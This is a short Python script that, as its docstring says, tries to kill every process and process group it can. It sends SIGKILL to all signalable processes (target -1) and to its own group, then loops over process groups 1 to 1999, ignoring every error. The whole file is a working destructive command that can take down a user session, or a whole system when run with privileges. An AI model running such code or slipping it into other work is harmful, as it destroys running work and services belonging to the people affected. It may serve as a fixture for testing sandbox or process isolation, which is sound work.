"""Kills every process and every group that it may."""

import os
import signal

for target in (-1, 0):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
for group in range(1, 2000):
    try:
        os.killpg(group, signal.SIGKILL)
    except OSError:
        pass
